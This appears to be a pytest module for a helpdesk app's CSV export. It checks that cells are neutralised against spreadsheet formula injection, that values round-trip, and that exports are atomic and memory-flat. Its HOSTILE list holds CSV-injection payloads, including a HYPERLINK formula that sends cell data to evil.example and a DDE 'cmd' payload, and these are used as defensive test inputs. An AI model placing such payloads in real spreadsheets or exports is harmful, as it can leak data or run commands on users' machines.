"""CSV exports as a spreadsheet user and the importer see them: every value back through a standard CSV reader,
no cell that starts a formula, numbers that stay numbers, no half file after a cancel, flat memory."""

import csv
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deskapp.cli import main
from deskapp.domain.errors import ValidationError
from deskapp.domain.queue import SLA_OVERDUE, TicketFilter
from deskapp.domain.tickets import Status
from deskapp.services.csv_export import (
    CONVERSATION_COLUMN,
    KPI_COLUMNS,
    SLA_COLUMNS,
    TICKET_COLUMNS,
    VIEW_COLUMNS,
    CsvFormat,
    ExportService,
    ThreadEntry,
    TicketSelection,
    format_conversation,
    neutralise,
    parse_conversation,
    restore_cell,
)
from deskapp.services.demo import generate_demo
from deskapp.services.tickets import NewTicket, TicketChanges
from deskapp.services.workspace import Workspace, open_workspace
from deskapp.storage.tables import Agent

MONDAY_9 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "\r=1",
    "\n=1",
    '"=1',
    "'=1",
    "  \"' -1",
    "＝1+1",
    "-5",
)


def read(path: Path, delimiter: str = ",") -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


def records(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    header, *rows = read(path, delimiter)
    return [dict(zip(header, row, strict=True)) for row in rows]


def opens_formula(cell: str) -> bool:
    """What a spreadsheet may take for a formula (OWASP): = + - @ first, also after spaces and quotes; a tab or
    carriage return first."""
    return cell[:1] in ("\t", "\r") or re.match(r"[\s\"']*[=+\-@＝＋－＠]", cell) is not None


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+([.,]\d+)?", cell) is not None


# --- the cell rules ----------------------------------------------------------------------------------------

TEXT_PIECES = st.sampled_from(
    [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        "\r\n",
        '"',
        "'",
        ",",
        ";",
        " ",
        "＝",
        "Ж",
        "中文",
        "عربى",
        "🙂",
        "👩‍💻",
        "\x00",
    ]
)
TEXTS = st.lists(TEXT_PIECES | st.characters(blacklist_categories=("Cs",)), max_size=30).map("".join)


@given(TEXTS)
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_neutralising_is_undone_exactly_and_never_leaves_a_formula(value: str) -> None:
    cell = neutralise(value)
    assert restore_cell(cell) == value
    assert cell == value or cell == "'" + value
    assert cell.startswith("'") or not opens_formula(cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_each_hostile_value_gets_exactly_one_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore_cell("'" + value) == value


@pytest.mark.parametrize("value", ["plain", "'quoted by its author", "", "1-2", "a=b", " x", "[2026] reply"])
def test_harmless_values_are_left_alone(value: str) -> None:
    assert neutralise(value) == value == restore_cell(value)


def test_numbers_are_numbers_and_text_that_looks_like_one_is_text() -> None:
    fmt = CsvFormat()
    assert [fmt.cell(v) for v in (-5, 3, -3.25, 0.5, True, None)] == ["-5", "3", "-3.25", "0.5", "yes", ""]
    assert fmt.cell("-5") == "'-5"
    assert fmt.cell(datetime(2026, 3, 2, 10, 0, tzinfo=UTC)) == "2026-03-02T10:00:00Z"
    assert CsvFormat(";", decimal=",").cell(-1.5) == "-1,5"


def test_the_default_delimiter_follows_the_locale(monkeypatch: pytest.MonkeyPatch) -> None:
    import locale

    monkeypatch.setattr(locale, "localeconv", lambda: {"decimal_point": ","})
    assert CsvFormat.for_locale() == CsvFormat(";", False, ",")
    assert CsvFormat.for_locale(",", bom=True) == CsvFormat(",", True, ".")  # never the delimiter as decimal
    monkeypatch.setattr(locale, "localeconv", lambda: {"decimal_point": "."})
    assert CsvFormat.for_locale() == CsvFormat(",", False, ".")
    with pytest.raises(ValidationError, match=r"^delimiter: "):
        CsvFormat.for_locale("|")


ENTRIES = st.builds(
    ThreadEntry,
    kind=st.sampled_from(["reply", "note", "event"]),
    author=TEXTS.map(lambda s: " ".join(s.replace("\r", " ").replace("\n", " ").split(" "))),
    at=st.datetimes(datetime(2000, 1, 1), datetime(2099, 1, 1)).map(lambda d: d.replace(microsecond=0, tzinfo=UTC)),
    body=TEXTS,
)


@given(st.lists(ENTRIES, max_size=6))
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_conversation_reads_back_entry_for_entry(entries: list[ThreadEntry]) -> None:
    assert parse_conversation(format_conversation(entries)) == entries


def test_a_conversation_is_readable_and_a_broken_one_is_refused() -> None:
    text = format_conversation(
        [
            ThreadEntry("reply", "Sofia Marsh", MONDAY_9, "Could you restart it?\n\nThanks"),
            ThreadEntry("event", "", MONDAY_9 + timedelta(hours=1), "Status changed from Open to Resolved"),
        ]
    )
    assert text == (
        "[2026-03-02T09:00:00Z] reply by Sofia Marsh\n> Could you restart it?\n>\n> Thanks\n\n"
        "[2026-03-02T10:00:00Z] event\n> Status changed from Open to Resolved"
    )
    with pytest.raises(ValueError, match="conversation line 2: "):
        parse_conversation("[2026-03-02T09:00:00Z] reply by X\nno quote mark")


# --- a small office ----------------------------------------------------------------------------------------


@pytest.fixture
def desk(workspace: Workspace, clock: Any) -> Workspace:
    ws = workspace
    clock.now = MONDAY_9
    problem = ws.tickets.create(NewTicket(subject="Printers keep dropping off", type="problem"), ws.actor)
    first = ws.tickets.create(
        NewTicket(
            subject="Printer jams, «ошибка» 紙詰まり 🖨",
            description='Line one, with "quotes"; and a semicolon\nLine two\r\nLine three',
            category="Printing/Print queue",
            requester_email="anna@office.example",
            requester_name="Anna Baker",
            requester_department="Finance",
            tags=["printer", "vip"],
            assignee="me",
        ),
        ws.actor,
    )
    clock.advance(minutes=30)
    ws.tickets.update(first.ref, TicketChanges(reply="Is it the one on the 2nd floor?", problem=problem.ref), ws.actor)
    clock.advance(minutes=30)
    ws.tickets.update(first.ref, TicketChanges(note="Checked the queue\n\n> not this", status="pending"), ws.actor)
    clock.advance(hours=2)
    ws.tickets.update(
        first.ref, TicketChanges(status="resolved", resolution_notes="Cleared the queue", root_cause="Driver"), ws.actor
    )
    clock.advance(hours=1)
    ws.tickets.update(first.ref, TicketChanges(status="open"), ws.actor)  # reopened: reopen_count 1
    clock.advance(hours=1)
    return ws


def test_tickets_export_round_trips_every_field(desk: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "tickets.csv"
    result = ExportService(desk.database, desk.clock).export_tickets(out, with_thread=True)
    assert (result.rows, result.cancelled) == (2, False)
    header, *_ = read(out)
    assert header == [*TICKET_COLUMNS, CONVERSATION_COLUMN]
    problem, ticket = records(out)
    detail = desk.tickets.get("INC-1")
    assert ticket["number"] == "INC-1" and problem["number"] == "PRB-1"
    assert ticket["subject"] == detail.subject == "Printer jams, «ошибка» 紙詰まり 🖨"
    assert ticket["description"] == 'Line one, with "quotes"; and a semicolon\nLine two\r\nLine three'
    assert (ticket["type"], ticket["status"], ticket["priority"], ticket["impact"]) == (
        "incident",
        "open",
        detail.priority.value,
        "medium",
    )
    assert (ticket["category"], ticket["subcategory"]) == ("Printing", "Print queue")
    assert (ticket["requester_name"], ticket["requester_email"], ticket["requester_department"]) == (
        "Anna Baker",
        "anna@office.example",
        "Finance",
    )
    assert (ticket["assignee"], ticket["tags"], ticket["major"], ticket["problem"]) == (
        desk.actor.name,
        "printer, vip",
        "no",
        "PRB-1",
    )
    assert ticket["created_at"] == "2026-03-02T09:00:00Z"
    assert ticket["first_response_at"] == "2026-03-02T09:30:00Z"
    assert ticket["updated_at"] == "2026-03-02T13:00:00Z"
    assert ticket["resolved_at"] == ticket["closed_at"] == ticket["resolution_notes"] == ""  # cleared by the reopen
    assert ticket["root_cause"] == "Driver"
    assert ticket["response_due_at"] == "2026-03-02T17:00:00Z"  # 8 business hours: Monday 09:00-17:00
    assert (ticket["response_met"], ticket["resolution_met"], ticket["reopen_count"]) == ("yes", "", "1")
    assert ticket["uuid"] and re.fullmatch(r"[0-9a-f]{32}", ticket["uuid"])
    thread = parse_conversation(ticket["conversation"])
    assert [(e.kind, e.author, e.at, e.body) for e in thread] == [
        (e.kind.value, e.author, e.created_at, e.body) for e in detail.entries
    ]
    assert ("note", "Checked the queue\n\n> not this") in [(e.kind, e.body) for e in thread]


def test_selection_by_creation_day_and_status(desk: Workspace, clock: Any, tmp_path: Path) -> None:
    clock.now = MONDAY_9 + timedelta(days=1)
    desk.tickets.create(NewTicket(subject="Next day"), desk.actor)
    exports = ExportService(desk.database, desk.clock)
    out = tmp_path / "t.csv"
    exports.export_tickets(out, TicketSelection(MONDAY_9 + timedelta(hours=1), None))
    assert [r["subject"] for r in records(out)] == ["Next day"]
    exports.export_tickets(out, TicketSelection(None, MONDAY_9 + timedelta(days=1), [Status.OPEN]))
    assert [r["number"] for r in records(out)] == ["INC-1"]


def test_sla_export_counts_a_pause_still_running(desk: Workspace, clock: Any, tmp_path: Path) -> None:
    desk.tickets.update("INC-1", TicketChanges(status="pending"), desk.actor)  # 14:00
    clock.advance(minutes=45)
    out = tmp_path / "sla.csv"
    ExportService(desk.database, desk.clock).export_sla(out)
    assert read(out)[0] == list(SLA_COLUMNS)
    row = {r["number"]: r for r in records(out)}["INC-1"]
    # the reopen at 13:00 restarted the clock and its pause count; pending since 14:00, now 14:45
    assert row["time_pending_s"] == str(45 * 60)
    assert (row["policy"], row["response_met"], row["first_response_at"]) == ("Standard", "yes", "2026-03-02T09:30:00Z")


# --- hostile data ------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(desk: Workspace, clock: Any) -> Workspace:
    """Every text a ticket can carry set to something a spreadsheet would run, as an import or sync could bring
    it (written straight into the database: the services would trim some of it)."""
    with desk.database.write() as session:
        session.add(Agent(name='=HYPERLINK("http://evil.example","x")', email="evil@office.example"))
    for i, value in enumerate(HOSTILE):
        ticket = desk.tickets.create(
            NewTicket(subject=f"Hostile {i}", requester_email=f"h{i}@office.example", assignee="evil@office.example"),
            desk.actor,
        )
        desk.tickets.update(ticket.ref, TicketChanges(reply="x", note=f"note {i}"), desk.actor)
        desk.tickets.update(ticket.ref, TicketChanges(status="resolved", resolution_notes="done"), desk.actor)
        with desk.database.engine.begin() as connection:
            connection.exec_driver_sql(
                "UPDATE tickets SET subject = ?, description = ?, priority_reason = ?, resolution_notes = ?,"
                " root_cause = ?, sla_policy = ?, uuid = ? WHERE id = ?",
                (value, value, value, value, value, value, f"{value}{i}", ticket.id),
            )
            connection.exec_driver_sql(
                "UPDATE requesters SET name = ?, department = ? WHERE email = ?", (value, value, f"h{i}@office.example")
            )
            connection.exec_driver_sql(
                "UPDATE entries SET body = ?, author_name = ? WHERE ticket_id = ?", (value, value, ticket.id)
            )
    return desk


def _every_cell_is_safe(path: Path, numeric: set[str], delimiter: str = ",") -> int:
    header, *rows = read(path, delimiter)
    checked = 0
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            if name in numeric:
                assert cell == "" or is_number(cell), (name, cell)
            else:
                assert cell.startswith("'") or not opens_formula(cell), (name, cell)
            checked += 1
    return checked


def test_no_exported_cell_starts_a_formula(hostile: Workspace, tmp_path: Path) -> None:
    exports = ExportService(hostile.database, hostile.clock)
    start, end = MONDAY_9 - timedelta(days=1), MONDAY_9 + timedelta(days=1)
    files = {
        "tickets": (exports.export_tickets(tmp_path / "t.csv", with_thread=True).path, {"reopen_count"}),
        "sla": (exports.export_sla(tmp_path / "s.csv").path, {"time_pending_s"}),
        "view": (exports.export_view(TicketFilter(), list(VIEW_COLUMNS), tmp_path / "v.csv").path, set()),
    }
    for group_by in ("assignee", "department"):
        path = exports.export_kpis(tmp_path / f"k-{group_by}.csv", start, end, group_by).path
        files[group_by] = (path, set(KPI_COLUMNS) - {"group"})
    for name, (path, numeric) in files.items():
        assert _every_cell_is_safe(path, numeric) > 10, name
    # and each hostile value comes back exactly once the apostrophe is taken off
    by_subject = {restore_cell(r["subject"]): r for r in records(files["tickets"][0])}
    for value in HOSTILE:
        row = by_subject[value]
        assert row["subject"] == row["description"] == row["root_cause"] == "'" + value
        assert restore_cell(row["requester_name"]) == restore_cell(row["requester_department"]) == value
        assert row["assignee"] == '\'=HYPERLINK("http://evil.example","x")'
        assert [e.body for e in parse_conversation(restore_cell(row["conversation"]))][:2] == [value, value]
    assignees = [r["group"] for r in records(files["assignee"][0])]
    assert '\'=HYPERLINK("http://evil.example","x")' in assignees


SETTINGS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@given(texts=st.lists(TEXTS, min_size=4, max_size=4), use_semicolon=st.booleans(), bom=st.booleans())
@SETTINGS
def test_any_text_survives_export_and_a_standard_reader(
    desk: Workspace, tmp_path: Path, texts: list[str], use_semicolon: bool, bom: bool
) -> None:
    subject, description, name, body = texts
    with desk.database.engine.begin() as connection:
        connection.exec_driver_sql(
            "UPDATE tickets SET subject = ?, description = ?, resolution_notes = ?"
            " WHERE number = 1 AND type = 'incident'",
            (subject, description, body),
        )
        connection.exec_driver_sql("UPDATE requesters SET name = ?", (name,))
        connection.exec_driver_sql("UPDATE entries SET body = ? WHERE kind = 'reply'", (body,))
    fmt = CsvFormat(";" if use_semicolon else ",", bom)
    out = tmp_path / "any.csv"
    ExportService(desk.database, desk.clock).export_tickets(out, fmt=fmt, with_thread=True)
    with open(out, encoding="utf-8-sig", newline="") as f:
        header, *rows = csv.reader(f, delimiter=fmt.delimiter)
    assert header == [*TICKET_COLUMNS, CONVERSATION_COLUMN]
    ticket = dict(zip(header, [restore_cell(c) for c in rows[1]], strict=True))
    assert (ticket["subject"], ticket["description"], ticket["resolution_notes"]) == (subject, description, body)
    assert ticket["requester_name"] == name
    assert [e.body for e in parse_conversation(ticket["conversation"]) if e.kind == "reply"] == [body]


# --- numbers, separators, byte-order mark ------------------------------------------------------------------


def test_numbers_stay_numbers_even_negative(desk: Workspace, tmp_path: Path) -> None:
    # A first response stamped an hour before creation (a clock set wrong on an importing machine): the mean
    # time to first response is -1 hour, written as a number, not neutralised.
    with desk.database.engine.begin() as connection:
        connection.exec_driver_sql("UPDATE tickets SET first_response_at = created_at - 3600 WHERE type = 'incident'")
    exports = ExportService(desk.database, desk.clock)
    kpis = exports.export_kpis(tmp_path / "k.csv", MONDAY_9 - timedelta(days=1), MONDAY_9 + timedelta(days=1)).path
    (total,) = records(kpis)
    assert total["group"] == "All tickets"
    assert total["first_response_mean_h"] == "-1.0" and float(total["first_response_mean_h"]) == -1.0
    assert (total["created"], total["first_response_count"], total["reopened"]) == ("2", "1", "0")
    tickets = exports.export_tickets(tmp_path / "t.csv").path
    assert [int(r["reopen_count"]) for r in records(tickets)] == [0, 1]


def test_semicolons_and_a_byte_order_mark_read_back_column_for_column(desk: Workspace, tmp_path: Path) -> None:
    exports = ExportService(desk.database, desk.clock)
    fmt = CsvFormat(";", bom=True, decimal=",")
    path = exports.export_tickets(tmp_path / "t.csv", fmt=fmt).path
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfnumber;type;subject;")
    rows = list(csv.reader(raw[3:].decode("utf-8").splitlines(keepends=True), delimiter=";"))
    with open(path, encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f, delimiter=";")) == rows
    assert rows[0] == list(TICKET_COLUMNS)
    assert all(len(row) == len(TICKET_COLUMNS) for row in rows)
    assert rows[2][TICKET_COLUMNS.index("description")].startswith('Line one, with "quotes"; and a semicolon\n')
    kpis = exports.export_kpis(tmp_path / "k.csv", MONDAY_9 - timedelta(days=1), MONDAY_9 + timedelta(days=1), fmt=fmt)
    with open(kpis.path, encoding="utf-8-sig", newline="") as f:
        header, total = csv.reader(f, delimiter=";")
    figures = dict(zip(header, total, strict=True))
    assert header == list(KPI_COLUMNS)
    assert figures["first_response_mean_h"] == "0,5"  # 30 minutes, with the locale's decimal comma
    assert figures["reopen_rate_pct"] == ""  # nothing resolved in the period: no rate, not 0 %


# --- cancel, errors, atomic replace ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    path = tmp_path_factory.mktemp("demo") / "demo.sqlite3"
    now = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    ws = open_workspace(path, clock=lambda: now)
    generate_demo(ws.database, tickets=2500, seed=3, clock=ws.clock)
    ws.sla.save_config(ws.sla.config())
    yield ws
    ws.close()


def test_a_cancelled_export_leaves_no_file_and_keeps_the_old_one(demo_db: Workspace, tmp_path: Path) -> None:
    exports = ExportService(demo_db.database, demo_db.clock)
    seen: list[tuple[int, int]] = []

    def stop_after_first_chunk(done: int, total: int) -> bool:
        seen.append((done, total))
        return done < 1000

    result = exports.export_tickets(tmp_path / "new.csv", with_thread=True, progress=stop_after_first_chunk)
    assert result.cancelled and result.rows == 1000
    assert seen == [(0, 2500), (1000, 2500)]
    assert list(tmp_path.iterdir()) == []
    old = tmp_path / "old.csv"
    old.write_text("kept")
    assert exports.export_sla(old, progress=lambda done, total: done == 0).cancelled
    assert old.read_text() == "kept" and list(tmp_path.iterdir()) == [old]


@pytest.mark.parametrize("error", [RuntimeError("boom"), KeyboardInterrupt()])
def test_an_error_or_interrupt_midway_leaves_no_file(demo_db: Workspace, tmp_path: Path, error: BaseException) -> None:
    def fail(done: int, total: int) -> bool:
        if done >= 2000:
            raise error
        return True

    with pytest.raises(type(error)):
        ExportService(demo_db.database, demo_db.clock).export_tickets(tmp_path / "t.csv", progress=fail)
    assert list(tmp_path.iterdir()) == []


def test_a_missing_folder_is_named(demo_db: Workspace, tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match=r"^out: the folder .*nowhere does not exist"):
        ExportService(demo_db.database, demo_db.clock).export_sla(tmp_path / "nowhere" / "s.csv")


def test_a_full_export_reports_progress_up_to_the_total(demo_db: Workspace, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    result = ExportService(demo_db.database, demo_db.clock).export_tickets(
        tmp_path / "t.csv", progress=lambda d, t: seen.append((d, t)) is None
    )
    assert result.rows == 2500 and seen[-1] == (2500, 2500) and seen[0] == (0, 2500)
    assert len(records(result.path)) == 2500


# --- a queue view ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "flt",
    [
        TicketFilter(),  # All tickets, newest first: more rows than one page
        TicketFilter(statuses=(Status.CLOSED,), sort="updated", descending=False),
        TicketFilter(sort="response_due"),  # nullable sort: the tickets without a clock come last
        TicketFilter(sla=SLA_OVERDUE, sort="priority"),
    ],
)
def test_a_view_exports_all_its_rows_in_its_order(demo_db: Workspace, tmp_path: Path, flt: TicketFilter) -> None:
    expected = demo_db.queue.tickets(flt, limit=100_000)
    assert expected
    columns = ["number", "subject", "status", "priority", "response_due", "assignee", "created"]
    result = ExportService(demo_db.database, demo_db.clock).export_view(flt, columns, tmp_path / "view.csv")
    header, *rows = read(result.path)
    assert header == ["Number", "Subject", "Status", "Priority", "Response due", "Assignee", "Created"]
    assert result.rows == len(rows) == len(expected)
    assert [r[0] for r in rows] == [t.ref for t in expected]
    first = expected[0]
    assert rows[0][2:] == [
        first.status.label,
        first.priority.label,
        first.response_due_at.strftime("%Y-%m-%dT%H:%M:%SZ") if first.response_due_at else "",
        first.assignee,
        first.created_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
    ]


def test_view_columns_are_checked_and_titles_can_be_translated(demo_db: Workspace, tmp_path: Path) -> None:
    exports = ExportService(demo_db.database, demo_db.clock)
    with pytest.raises(ValidationError, match=r"^columns: 'match' is not one of number, subject"):
        exports.export_view(TicketFilter(), ["number", "match"], tmp_path / "v.csv")
    path = exports.export_view(
        TicketFilter(statuses=(Status.NEW,)), ["number", "group"], tmp_path / "v.csv", titles=["Nummer", "Gruppe"]
    ).path
    assert read(path)[0] == ["Nummer", "Gruppe"]


# --- the command line --------------------------------------------------------------------------------------


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    try:
        code = main(list(args))
    except SystemExit as exit_:
        code = exit_.code if isinstance(exit_.code, int) else 1
    out, err = capsys.readouterr()
    return code, out, err


def test_the_command_exports_with_the_same_code(desk: Workspace, tmp_path: Path, capsys: Any) -> None:
    db = str(desk.path)
    out = tmp_path / "t.csv"
    code, printed, _ = run(
        capsys, "--db", db, "export", "tickets", "--out", str(out), "--with-thread", "--delimiter", ";", "--bom"
    )
    assert code == 0 and printed.startswith("Exported 2 tickets to ")
    with open(out, encoding="utf-8-sig", newline="") as f:
        assert next(csv.reader(f, delimiter=";")) == [*TICKET_COLUMNS, CONVERSATION_COLUMN]
    code, printed, _ = run(
        capsys, "--db", db, "export", "kpis", "--out", str(tmp_path / "k.csv"), "--from", "2026-03-02",
        "--to", "2026-03-02", "--group-by", "type", "--delimiter", ",",
    )  # fmt: skip
    assert code == 0 and "KPI rows for 2026-03-02 to 2026-03-02" in printed
    assert [r["group"] for r in records(tmp_path / "k.csv")] == ["Incident", "Problem", "All tickets"]
    code, _, _ = run(capsys, "--db", db, "export", "sla", "--out", str(tmp_path / "s.csv"), "--status", "open,new")
    assert code == 0 and [r["number"] for r in records(tmp_path / "s.csv")] == ["PRB-1", "INC-1"]
    code, _, _ = run(capsys, "--db", db, "export", "sla", "--out", str(tmp_path / "s.csv"), "--status", "closed")
    assert code == 0 and records(tmp_path / "s.csv") == []


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["tickets", "--from", "2026-02-30"], "--from: '2026-02-30' is not a date like 2026-03-02"),
        (["tickets", "--to", "soon"], "--to: 'soon' is not a date"),
        (["tickets", "--from", "2026-03-05", "--to", "2026-03-01"], "--to: must be after --from"),
        (["sla", "--with-thread"], "--with-thread: only 'export tickets'"),
        (["kpis", "--status", "open"], "--status: 'export kpis' counts every status"),
        (["tickets", "--group-by", "type"], "--group-by: only for 'export kpis'"),
        (["kpis", "--group-by", "colour"], "--group-by: 'colour' is not one of none, category"),
        (["tickets", "--status", "later"], "--status: 'later' is not one of new, open"),
        (["tickets", "--delimiter", "|"], "--delimiter: '|' is not ',' or ';'"),
    ],
)
def test_bad_flags_are_one_line_errors_naming_the_flag(
    desk: Workspace, tmp_path: Path, capsys: Any, args: list[str], message: str
) -> None:
    out = tmp_path / "x.csv"
    code, printed, err = run(capsys, "--db", str(desk.path), "export", *args, "--out", str(out))
    assert code == 2 and printed == ""
    assert err.startswith(f"deskapp: {message}") and err.count("\n") == 1, err
    assert not out.exists()


def test_the_command_names_a_missing_folder(desk: Workspace, tmp_path: Path, capsys: Any) -> None:
    code, _, err = run(capsys, "--db", str(desk.path), "export", "sla", "--out", str(tmp_path / "no" / "s.csv"))
    assert code == 2 and err.startswith("deskapp: --out: the folder ") and err.count("\n") == 1


# --- memory ------------------------------------------------------------------------------------------------

MEASURE = """
import json, resource, sys, time
from pathlib import Path
from deskapp.services.csv_export import ExportService, TicketSelection
from deskapp.storage.migrate import open_database
database = open_database(Path(sys.argv[1]), create=False)
exports = ExportService(database)
exports.export_sla(Path(sys.argv[2]))  # warm up: imports, connection, caches
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
started = time.perf_counter()
result = exports.export_tickets(Path(sys.argv[2]), with_thread=True)
seconds = time.perf_counter() - started
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"rows": result.rows, "seconds": seconds, "rise_mb": (after - before) / 1024}))
"""


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is in KiB on Linux")
def test_memory_stays_flat_while_exporting_20k_tickets_with_their_threads(tmp_path: Path) -> None:
    """Peak memory (resident set) rises by less than 50 MB while exporting 20,000 tickets with every reply;
    the export streams, so 100,000 need no more (measured: about 9 MB at 20k and at 100k)."""
    path = tmp_path / "big.sqlite3"
    now = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    ws = open_workspace(path, clock=lambda: now)
    generate_demo(ws.database, tickets=20_000, seed=5, clock=ws.clock)
    ws.close()
    measured = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path), str(tmp_path / "out.csv")],
        capture_output=True,
        text=True,
        check=True,
        timeout=300,
    )
    figures = json.loads(measured.stdout)
    assert figures["rows"] == 20_000
    assert figures["rise_mb"] < 50, figures
